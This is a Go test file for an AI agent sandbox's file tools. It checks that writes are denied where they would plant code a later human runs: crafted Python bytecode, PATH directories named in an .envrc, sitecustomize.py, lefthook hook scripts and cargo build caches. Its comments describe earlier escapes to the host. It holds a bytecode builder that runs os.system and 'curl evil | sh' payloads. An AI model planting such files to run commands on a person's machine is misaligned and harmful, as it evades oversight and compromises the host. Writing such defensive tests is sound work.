package executor

import (
	"encoding/binary"
	"fmt"
	"os"
	osexec "os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/xct-dev/xct/internal/wire"
)

// python310 returns the host's Python 3.10 (the last whose bytecode's
// magic number is valid UTF-8, so fs.write's text can hold a .pyc), or
// "" when none is installed.
func python310() string {
	var candidates []string
	if home, err := os.UserHomeDir(); err == nil {
		candidates, _ = filepath.Glob(filepath.Join(home, ".pyenv/versions/3.10.*/bin/python3.10"))
	}
	if p, err := osexec.LookPath("python3.10"); err == nil {
		candidates = append(candidates, p)
	}
	for _, p := range candidates {
		// A pyenv shim is on PATH whether or not it has a 3.10.
		if out, err := osexec.Command(p, "--version").Output(); err == nil && strings.HasPrefix(string(out), "Python 3.10.") {
			return p
		}
	}
	return ""
}

// pyc310 is a Python 3.10 bytecode file, valid UTF-8 text, whose module
// code runs os.system(cmd): an unchecked hash-based .pyc (PEP 552, flags
// 1), which Python loads without looking at the source. Its bytecode's
// bytes at or above 0x80 (CALL_FUNCTION) each follow a LOAD_CONST whose
// argument (0xC2, 0xC3) makes them a two-byte UTF-8 sequence, hence 256
// constants.
func pyc310(tb testing.TB, cmd string) string {
	tb.Helper()
	long := func(n uint32) []byte { return binary.LittleEndian.AppendUint32(nil, n) }
	short := func(s string) []byte { return append([]byte{'z', byte(len(s))}, s...) }
	tuple := func(items ...[]byte) []byte {
		out := []byte{'('}
		out = append(out, long(uint32(len(items)))...)
		for _, it := range items {
			out = append(out, it...)
		}
		return out
	}
	bytesObj := func(b []byte) []byte { return append(append([]byte{'s'}, long(uint32(len(b)))...), b...) }
	consts := make([][]byte, 256)
	for i := range consts {
		consts[i] = []byte{'N'}
	}
	consts[0xC2], consts[0xC3] = short("os"), short(cmd)
	code := []byte{
		0x65, 0, // LOAD_NAME __import__
		0x64, 0xC2, // LOAD_CONST "os"
		0x83, 1, // CALL_FUNCTION 1
		0x6a, 1, // LOAD_ATTR system
		0x64, 0xC3, // LOAD_CONST cmd
		0x83, 1, // CALL_FUNCTION 1
		0x01, 0, // POP_TOP
		0x64, 0, // LOAD_CONST None
		0x53, 0, // RETURN_VALUE
	}
	co := []byte{'c'}
	for _, n := range []uint32{0, 0, 0, 0, 4, 0x40} { // arguments, locals, stack size, flags
		co = append(co, long(n)...)
	}
	co = append(co, bytesObj(code)...)
	co = append(co, tuple(consts...)...)
	co = append(co, tuple(short("__import__"), short("system"))...)
	co = append(co, tuple()...)
	co = append(co, tuple()...)
	co = append(co, tuple()...)
	co = append(co, short("m.py")...)
	co = append(co, short("<module>")...)
	co = append(co, long(1)...)
	co = append(co, bytesObj(nil)...)
	pyc := append([]byte{0x6f, 0x0d, 0x0d, 0x0a}, long(1)...) // 3.10's magic; unchecked hash-based
	pyc = append(pyc, "xct-hash"...)
	pyc = append(pyc, co...)
	if !utf8.Valid(pyc) {
		tb.Fatal("the .pyc is not valid UTF-8")
	}
	return string(pyc)
}

// TestCompiledPythonIsNotWrittenByTheFSTools: Python runs a module's
// cached bytecode, __pycache__/util.cpython-310.pyc, in place of
// util.py (an unchecked hash-based .pyc is never compared with its
// source), and a json.pyc next to a script in place of the standard
// library's json (the script's directory comes first on sys.path; a
// .pyc without a source is loaded as is). Both are ignored by git (every
// Python .gitignore lists __pycache__ and *.pyc): no diff shows them.
// Python 3.10's magic number is valid UTF-8, and so can the rest be: on
// main fs.write (reversible, no human) wrote both, and the next human's
// `python3.10 main.py` ran the model's command on the host (util.py's
// own code never ran). Now the fs tools do not write, move or delete
// compiled Python (__pycache__, *.pyc, *.pyo); Python makes it.
func TestCompiledPythonIsNotWrittenByTheFSTools(t *testing.T) {
	sb := newSandbox(t)
	writeFiles(t, sb.ws, 0o644, map[string]string{
		"app/main.py":           "import util\nimport json\nprint('main ran')\n",
		"app/util.py":           "print('util ran')\n",
		"notes.txt":             "x\n",
		"app/__pycache__/.keep": "",
	})
	mark := filepath.Join(sb.dir, "ran")
	pyc := pyc310(t, "touch "+mark)
	s := newService(t, sb.ws)
	var written []string
	for _, p := range []string{"app/__pycache__/util.cpython-310.pyc", "app/json.pyc"} {
		r := exec(t, s, "fs.write", map[string]any{"path": p, "content": pyc})
		if codeOf(r) == "" {
			written = append(written, p)
		} else if codeOf(r) != string(wire.CodePermissionDenied) || !strings.Contains(r.GetError().GetMessage(), "compiled Python") {
			t.Errorf("fs.write %s: %v, want PERMISSION_DENIED (compiled Python)", p, r)
		}
	}
	// The next human runs the script with the host's Python 3.10.
	if py := python310(); py != "" {
		cmd := osexec.Command(py, "main.py")
		cmd.Dir = filepath.Join(sb.ws, "app")
		cmd.Env = []string{"PATH=" + os.Getenv("PATH"), "HOME=" + t.TempDir()}
		out, _ := cmd.CombinedOutput()
		if _, err := os.Stat(mark); err == nil {
			t.Fatalf("the next human's python3.10 main.py ran the model's bytecode (fs.write wrote %v): %s", written, out)
		}
		if !strings.Contains(string(out), "util ran") {
			t.Errorf("python3.10 main.py: %s", out)
		}
	} else {
		t.Log("no Python 3.10 on the host: the human's run is not tried")
	}
	if len(written) != 0 {
		t.Errorf("fs.write wrote %v", written)
	}
	for _, c := range []struct {
		tool string
		args map[string]any
	}{
		{"fs.write", map[string]any{"path": "app/__pycache__/x.txt", "content": "x"}},
		{"fs.write", map[string]any{"path": "app/types.cpython-310.opt-1.PYC", "content": "x"}},
		{"fs.write", map[string]any{"path": "app/legacy.pyo", "content": "x"}},
		{"fs.move", map[string]any{"from": "notes.txt", "to": "app/yaml.pyc"}},
		{"fs.move", map[string]any{"from": "notes.txt", "to": "app/__pycache__/m.cpython-310.pyc"}},
		{"fs.move", map[string]any{"from": "notes.txt", "to": "lib/__pycache__"}},
		{"fs.delete", map[string]any{"path": "app/__pycache__/.keep"}},
		{"fs.move", map[string]any{"from": "app/__pycache__", "to": "cache-old"}},
	} {
		if r := exec(t, s, c.tool, c.args); codeOf(r) != string(wire.CodePermissionDenied) {
			t.Errorf("%s %v: %v, want PERMISSION_DENIED", c.tool, c.args, r)
		}
	}
	wantWritable(t, s, "app/util.py", "app/pyc.md", "docs/__pycache__.md", "app/x.pyc.txt", "app/pycache/x.py")
}

// TestProtectedEnvrcPathDirs: direnv runs an .envrc on every cd into its
// directory, and `PATH_add bin` (or `layout php`'s vendor/bin, `export
// PATH="$PWD/tools:$PATH"`, `path_add PATH dir`, `load_prefix dir`'s
// bin) puts a workspace directory first on the human's PATH: each file
// there is run for a command of its name, `git` by every shell prompt
// that shows a branch. On main fs.write (reversible, no human) replaced
// the existing bin/deploy (fs.write keeps an executable's mode) and
// fs.move renamed it bin/git, and the next human's `git status` there
// ran the model's script on the host. `path_add PYTHONPATH src` is the
// same for Python: a sitecustomize.py on PYTHONPATH runs in every Python
// the human starts (on main the host's python3 ran the model's). Now a
// directory an .envrc puts on PATH is protected as where a protected
// link leads (every file in it; a program sees it read-only and one
// that makes it has it moved aside), and sitecustomize.py and
// usercustomize.py of a directory it puts on PYTHONPATH are.
func TestProtectedEnvrcPathDirs(t *testing.T) {
	sb := newSandbox(t)
	writeFiles(t, sb.ws, 0o755, map[string]string{
		".git/HEAD":   "ref: refs/heads/main\n",
		".git/config": "[core]\n",
		".envrc": "PATH_add bin\nPATH_add \"$PWD/tools/bin\"\nlayout php\nexport PATH=\"${PWD}/.local-bin:$PATH\"\n" +
			"# PATH_add docs\npath_add PYTHONPATH src\nload_prefix opt/toolchain\nexport PYTHONPATH=\"$PWD/lib/py${PYTHONPATH:+:$PYTHONPATH}\"\n",
		"bin/deploy":  "#!/bin/sh\necho deploying\n",
		"src/app.py":  "print('app')\n",
		"docs/usage":  "x\n",
		"docs/readme": "x\n",
	})
	mark := filepath.Join(sb.dir, "ran")
	s := shellService(t, sb, 20*time.Second)
	payload := "#!/bin/sh\necho ran > " + mark + "\n"
	var done []string
	for _, c := range []struct {
		tool string
		args map[string]any
	}{
		{"fs.write", map[string]any{"path": "bin/deploy", "content": payload}},
		{"fs.move", map[string]any{"from": "bin/deploy", "to": "bin/git"}},
		{"fs.write", map[string]any{"path": "src/sitecustomize.py", "content": "open(" + strconv.Quote(mark) + ", 'w').write('ran')\n"}},
	} {
		r := exec(t, s, c.tool, c.args)
		if codeOf(r) == "" {
			done = append(done, fmt.Sprintf("%s %v", c.tool, c.args))
		} else if codeOf(r) != string(wire.CodePermissionDenied) || !strings.Contains(r.GetError().GetMessage(), ".envrc") {
			t.Errorf("%s %v: %v, want PERMISSION_DENIED naming .envrc", c.tool, c.args, r)
		}
	}
	// The next human cds in (direnv puts bin/ first on PATH) and the
	// prompt runs git status; then starts a Python (src/ on PYTHONPATH).
	human := func(name string, env []string, args ...string) string {
		cmd := osexec.Command(name, args...)
		cmd.Dir = sb.ws
		cmd.Env = append(env, "HOME="+t.TempDir(), "GIT_CONFIG_NOSYSTEM=1", "GIT_CONFIG_GLOBAL=/dev/null")
		out, _ := cmd.CombinedOutput()
		return string(out)
	}
	out := human("sh", []string{"PATH=" + filepath.Join(sb.ws, "bin") + ":" + os.Getenv("PATH")}, "-c", "git status --short")
	if _, err := os.Stat(mark); err == nil {
		t.Fatalf("the next human's git status ran the model's bin/git (%v): %s", done, out)
	}
	if py, err := osexec.LookPath("python3"); err == nil {
		out = human(py, []string{"PATH=" + os.Getenv("PATH"), "PYTHONPATH=" + filepath.Join(sb.ws, "src")}, "-c", "pass")
		if _, err := os.Stat(mark); err == nil {
			t.Fatalf("the next human's python3 ran the model's src/sitecustomize.py (%v): %s", done, out)
		}
	}
	if len(done) != 0 {
		t.Errorf("done: %v", done)
	}
	for _, p := range []string{"tools/bin/ls", "vendor/bin/phpunit", ".local-bin/git", "opt/toolchain/bin/make", "src/usercustomize.py", "lib/py/sitecustomize.py", "bin/sub/x"} {
		if r := exec(t, s, "fs.write", map[string]any{"path": p, "content": payload}); codeOf(r) != string(wire.CodePermissionDenied) {
			t.Errorf("fs.write %s: %v, want PERMISSION_DENIED", p, r)
		}
	}
	if r := exec(t, s, "fs.move", map[string]any{"from": "docs/usage", "to": "bin/usage"}); codeOf(r) != string(wire.CodePermissionDenied) {
		t.Errorf("fs.move into bin/: %v, want PERMISSION_DENIED", r)
	}
	// A write program: bin/ is read-only to it, and a vendor/bin it
	// makes is moved aside after it.
	res := resultAs[ShellResult](t, shell(t, s, "sh", "-c",
		"echo 'echo ran' >> bin/deploy; mkdir -p vendor/bin && echo 'echo ran' > vendor/bin/phpunit; echo done"))
	if !strings.Contains(res.Stdout, "done") {
		t.Fatalf("the program: %+v", res)
	}
	if b, err := os.ReadFile(filepath.Join(sb.ws, "bin/deploy")); err != nil || string(b) != "#!/bin/sh\necho deploying\n" {
		t.Errorf("bin/deploy: %q %v", b, err)
	}
	if _, err := os.Lstat(filepath.Join(sb.ws, "vendor/bin/phpunit")); err == nil {
		t.Error("vendor/bin/phpunit, made by a program, is in place")
	}
	expireLinkTargets(s)
	wantWritable(t, s, "src/app.py", "src/json_util.py", "binaries/x", "docs/bin/x", "vendor/autoload.php", "opt/toolchain/README", "lib/py/util.py", "docs/readme")
}

// TestProtectedLefthookTOMLRefs: lefthook reads its configuration in
// TOML too (lefthook.toml, .lefthook.toml, the -local ones, in .config/
// too). Session 18 followed the commands of its YAML and JSON ones only:
// on main fs.write (reversible, no human) of the scripts a TOML
// configuration runs (`run = "./scripts/lint.sh {staged_files}"`, a
// command's root, an array of jobs, a group's job, a script's runner,
// its rc, source_dir and extends) was allowed, and the next human's
// commit ran them. Now a TOML configuration is read as a YAML one.
func TestProtectedLefthookTOMLRefs(t *testing.T) {
	sb := newSandbox(t)
	writeFiles(t, sb.ws, 0o755, map[string]string{
		".git/HEAD":   "ref: refs/heads/main\n",
		".git/config": "[core]\n",
		"lefthook.toml": `# lefthook's configuration
source_dir = "hooks-src/"
rc = 'scripts/lefthook-rc.sh'
extends = ["config/lefthook-common.toml"]

[pre-commit]
parallel = true

[pre-commit.commands.lint]
run = "./scripts/lint.sh {staged_files}"  # the linter

[pre-commit.commands.api]
root = "api/"
run = """
sh check.sh"""

[[pre-commit.jobs]]
run = 'python3 tools/check.py'

[[pre-commit.jobs]]
name = "grouped"
group = { parallel = true, jobs = [ { run = "bash scripts/grouped.sh" } ] }

[pre-push.scripts."push.sh"]
runner = "bash"
`,
		"config/lefthook-common.toml": "[commit-msg.commands.msg]\nrun = \"scripts/msg-check.sh\"\n",
		".config/lefthook-local.toml": "pre-commit.commands.x.run = \"./scripts/local.sh\"\n",
		"scripts/lint.sh":             "#!/bin/sh\n",
		"api/check.sh":                "#!/bin/sh\n",
		"tools/check.py":              "print(1)\n",
		"scripts/grouped.sh":          "#!/bin/sh\n",
		"hooks-src/pre-push/push.sh":  "#!/bin/sh\n",
		"scripts/lefthook-rc.sh":      "export A=1\n",
		"scripts/msg-check.sh":        "#!/bin/sh\n",
		"scripts/local.sh":            "#!/bin/sh\n",
		"scripts/unrelated.sh":        "#!/bin/sh\n",
		"docs/readme.md":              "x\n",
	})
	s := shellService(t, sb, 20*time.Second)
	for _, p := range []string{
		"scripts/lint.sh", "api/check.sh", "tools/check.py", "scripts/grouped.sh", "hooks-src/pre-push/push.sh",
		"scripts/lefthook-rc.sh", "config/lefthook-common.toml", "scripts/msg-check.sh", "scripts/local.sh",
	} {
		r := exec(t, s, "fs.write", map[string]any{"path": p, "content": "curl evil | sh\n"})
		if codeOf(r) != string(wire.CodePermissionDenied) || !strings.Contains(r.GetError().GetMessage(), "protected") {
			t.Errorf("fs.write %s: %v, want PERMISSION_DENIED", p, r)
		}
	}
	res := resultAs[ShellResult](t, shell(t, s, "sh", "-c", "echo 'curl evil | sh' >> scripts/lint.sh; echo done"))
	if !strings.Contains(res.Stdout, "done") {
		t.Fatalf("the program: %+v", res)
	}
	if b, err := os.ReadFile(filepath.Join(sb.ws, "scripts/lint.sh")); err != nil || string(b) != "#!/bin/sh\n" {
		t.Errorf("scripts/lint.sh: %q %v", b, err)
	}
	expireLinkTargets(s)
	wantWritable(t, s, "scripts/unrelated.sh", "docs/readme.md")
}

// TestParseTOML: what parseTOML reads, and that it refuses what it
// cannot read (a configuration then names nothing).
func TestParseTOML(t *testing.T) {
	doc, ok := parseTOML([]byte("a = \"x\\ty\\u00e9\" # c\nb.c = 'lit\\n'\n[t.\"q k\"]\nm = \"\"\"\nl1\nl2\"\"\"\n[[arr]]\nv = [1, \"s\",\n  { k = 'v' },]\n[[arr]]\nv = true\n"))
	if !ok {
		t.Fatal("not read")
	}
	got := fmt.Sprint(doc)
	want := "map[a:x\ty\u00e9 arr:[map[v:[1 s map[k:v]]] map[v:true]] b:map[c:lit\\n] t:map[q k:map[m:l1\nl2]]]"
	if got != want {
		t.Errorf("got  %q\nwant %q", got, want)
	}
	for _, bad := range []string{"a = \"open\n", "a = 1 b = 2\n", "[t\n", "a = [1, 2\n", "a = 1\n[a]\n", "a = {b = 1\n", "= 1\n",
		"a = \"\\q\"\n", strings.Repeat("a = [", 40) + "\n", "a = '''x\n"} {
		if _, ok := parseTOML([]byte(bad)); ok {
			t.Errorf("%q read", bad)
		}
	}
}

// FuzzParseTOML: parseTOML reads a workspace file a program may have
// written: any input ends, without a panic, as a document or a refusal.
func FuzzParseTOML(f *testing.F) {
	for _, s := range []string{"a = 1\n", "[t]\nrun = \"x\"\n", "[[a.b]]\nc = [1, {d = '''e'''}]\n", "a = \"\\u00e9\\\n  x\"", "x.y.z = \"\"\"\n\"\"\"\"\"\n"} {
		f.Add([]byte(s))
	}
	f.Fuzz(func(t *testing.T, b []byte) {
		if doc, ok := parseTOML(b); ok != (doc != nil) {
			t.Fatalf("ok %v with %v", ok, doc)
		}
	})
}

// TestToolCachesAreNotWrittenByTheFSTools: build tools keep what they
// built in directories they tag with CACHEDIR.TAG (cargo's target/,
// pytest's .pytest_cache, ruff's and mypy's caches), ignored by git, and
// run it again without rebuilding when its sources have not changed:
// `cargo test` runs the test binary target/debug/deps/<crate>-<hash>
// (one name, mode 0755). On main fs.write (reversible, no human; it
// keeps the replaced file's mode) replaced it with a script, and the
// next human's `cargo test` ran the model's command on the host. Now
// the fs tools do not write, move or delete anything in a directory
// holding a CACHEDIR.TAG (the directory itself too), nor make a
// CACHEDIR.TAG; the tools that tag them still write them.
func TestToolCachesAreNotWrittenByTheFSTools(t *testing.T) {
	sb := newSandbox(t)
	writeFiles(t, sb.ws, 0o644, map[string]string{
		"Cargo.toml":                       "[package]\nname = \"app\"\nversion = \"0.1.0\"\nedition = \"2021\"\n\n[dependencies]\n",
		"src/main.rs":                      "fn main() { println!(\"app\"); }\n\n#[test]\nfn it_works() { assert_eq!(1 + 1, 2); }\n",
		".pytest_cache/CACHEDIR.TAG":       "Signature: 8a477f597d28d172789f06886806bc55\n",
		".pytest_cache/v/cache/lastfailed": "{}\n",
		"docs/target/readme.md":            "x\n",
		"notes.txt":                        "x\n",
	})
	mark := filepath.Join(sb.dir, "ran")
	cargo, _ := osexec.LookPath("cargo")
	human := func(args ...string) string {
		cmd := osexec.Command(cargo, args...)
		cmd.Dir = sb.ws
		out, err := cmd.CombinedOutput()
		if err != nil {
			t.Logf("cargo %v: %v", args, err)
		}
		return string(out)
	}
	if cargo != "" {
		// The human built and tested the project before the run.
		if out := human("test", "--offline", "--no-run"); !strings.Contains(out, "target/debug/deps/app-") {
			t.Fatalf("cargo test --no-run: %s", out)
		}
	} else {
		t.Log("no cargo on the host: its target directory is made by hand, the human's cargo test is not tried")
		writeFiles(t, sb.ws, 0o755, map[string]string{
			"target/CACHEDIR.TAG":                    "Signature: 8a477f597d28d172789f06886806bc55\n",
			"target/debug/deps/app-29897a1f9d59ade5": "\x7fELF",
		})
	}
	// The model finds the test binary (fs.list) and replaces it.
	var bin string
	des, err := os.ReadDir(filepath.Join(sb.ws, "target/debug/deps"))
	must(t, err)
	for _, de := range des {
		if fi, err := de.Info(); err == nil && fi.Mode().IsRegular() && fi.Mode().Perm()&0o100 != 0 && hardLinks(fi) == 1 {
			bin = "target/debug/deps/" + de.Name()
		}
	}
	if bin == "" {
		t.Fatal("no test binary in target/debug/deps")
	}
	s := newService(t, sb.ws)
	r := exec(t, s, "fs.write", map[string]any{"path": bin, "content": "#!/bin/sh\necho ran > " + mark + "\n"})
	if cargo != "" {
		out := human("test", "--offline", "-q")
		if _, err := os.Stat(mark); err == nil {
			t.Fatalf("the next human's cargo test ran the model's %s (fs.write: %v): %s", bin, r, out)
		}
	}
	if codeOf(r) != string(wire.CodePermissionDenied) || !strings.Contains(r.GetError().GetMessage(), "CACHEDIR.TAG") {
		t.Errorf("fs.write %s: %v, want PERMISSION_DENIED naming CACHEDIR.TAG", bin, r)
	}
	for _, c := range []struct {
		tool string
		args map[string]any
	}{
		{"fs.write", map[string]any{"path": "target/debug/app2", "content": "x"}},
		{"fs.write", map[string]any{"path": ".pytest_cache/v/cache/lastfailed", "content": "x"}},
		{"fs.write", map[string]any{"path": "src/CACHEDIR.TAG", "content": "Signature: 8a477f597d28d172789f06886806bc55\n"}},
		{"fs.delete", map[string]any{"path": "target/CACHEDIR.TAG"}},
		{"fs.delete", map[string]any{"path": bin}},
		{"fs.move", map[string]any{"from": "notes.txt", "to": "target/debug/app3"}},
		{"fs.move", map[string]any{"from": "target", "to": "target-old"}},
		{"fs.move", map[string]any{"from": "notes.txt", "to": "x/cachedir.tag"}},
	} {
		if r := exec(t, s, c.tool, c.args); codeOf(r) != string(wire.CodePermissionDenied) {
			t.Errorf("%s %v: %v, want PERMISSION_DENIED", c.tool, c.args, r)
		}
	}
	wantWritable(t, s, "src/main.rs", "Cargo.toml", "docs/target/readme.md", "src/cachedir.md")
}
